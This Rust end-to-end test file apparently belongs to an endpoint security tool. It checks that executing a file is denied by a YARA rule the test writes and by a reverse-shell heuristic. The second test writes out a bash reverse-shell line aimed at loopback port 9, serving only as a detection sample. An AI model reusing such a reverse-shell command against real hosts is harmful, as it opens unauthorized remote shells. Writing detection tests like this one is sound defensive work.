//! Detection stages beyond hashes, end to end: an exec denied by a YARA rule
//! written by the test, and one denied by a script heuristic. No hash lists are
//! loaded, so only those stages can deny.

use std::time::Duration;

use crate::fixture::*;

const EVENT_WAIT: Duration = Duration::from_secs(10);

/// The stages named in a blocked event's reasons.
fn stages(ev: &serde_json::Value) -> Vec<String> {
    ev.pointer("/vigil/reasons")
        .and_then(|v| v.as_array())
        .map(|a| a.iter().map(|r| jstr(r, "/stage").to_string()).collect())
        .unwrap_or_default()
}

#[test]
fn exec_denied_by_a_yara_rule() {
    require_root!();
    let sb = Sandbox::new("yara");
    // The canary is assembled at run time so this source file itself never matches.
    let canary = format!("vigil-{}-yara-canary", "e2e");
    let rule = sb.host("canary.yar");
    write_canary_rule(&rule, "e2e_canary", Some("Test.Canary"), &canary);
    let bad = sb.mnt("rule-hit");
    write_marker_binary(&bad, &canary);
    let good = sb.mnt("rule-miss");
    write_marker_binary(&good, "nothing to see");
    let mut cfg = sb.config();
    cfg.rules = vec![rule];
    let d = sb.start(&cfg);

    assert_ran(
        &run(&good),
        &format!("clean binary under rules{}", d.context()),
    );
    assert_denied(&run(&bad), &format!("exec of a rule match{}", d.context()));
    let ev = d.wait_event("blocked by rule", EVENT_WAIT, |v| {
        is_event(v, "blocked", "rule-hit")
    });
    let ctx = format!("event: {ev}{}", d.context());
    assert_eq!(jstr(&ev, "/event/type"), "exec", "{ctx}");
    assert!(
        stages(&ev).iter().any(|s| s == "rules"),
        "no rules-stage reason: {ctx}"
    );
    assert!(
        ev.to_string().contains("Test.Canary"),
        "threat_name missing: {ctx}"
    );
}

#[test]
fn exec_of_reverse_shell_script_denied_by_heuristics() {
    require_root!();
    let sb = Sandbox::new("heur");
    // Points at loopback port 9 (discard): harmless even if it ever ran.
    let script = format!("#!/bin/sh\nbash -i >& /dev/{}/127.0.0.1/9 0>&1\n", "tcp");
    let bad = sb.mnt("revshell.sh");
    write_file(&bad, script.as_bytes(), 0o755);
    let good = sb.mnt("hello.sh");
    // assert_ran expects the marker on stdout.
    write_file(
        &good,
        format!("#!/bin/sh\necho {MARKER}\n").as_bytes(),
        0o755,
    );
    let d = sb.start(&sb.config());

    assert_ran(&run(&good), &format!("clean script{}", d.context()));
    assert_denied(
        &run(&bad),
        &format!("exec of a reverse-shell script{}", d.context()),
    );
    let ev = d.wait_event("blocked by heuristics", EVENT_WAIT, |v| {
        is_event(v, "blocked", "revshell.sh")
    });
    let ctx = format!("event: {ev}{}", d.context());
    assert!(
        stages(&ev).iter().any(|s| s == "heuristics"),
        "no heuristics reason: {ctx}"
    );
    assert!(
        ev.to_string().contains("script.reverse_shell"),
        "heuristic id missing: {ctx}"
    );
    // Running it through the interpreter is an open of the script: also denied,
    // which sh reports on stderr and with a failing status.
    let via_sh = std::process::Command::new("sh")
        .arg(&bad)
        .output()
        .expect("run sh");
    let stderr = String::from_utf8_lossy(&via_sh.stderr);
    assert!(
        !via_sh.status.success() && stderr.contains("Operation not permitted"),
        "`sh script` (an open, not an exec) was not denied: {:?} {stderr}{}",
        via_sh.status,
        d.context()
    );
}
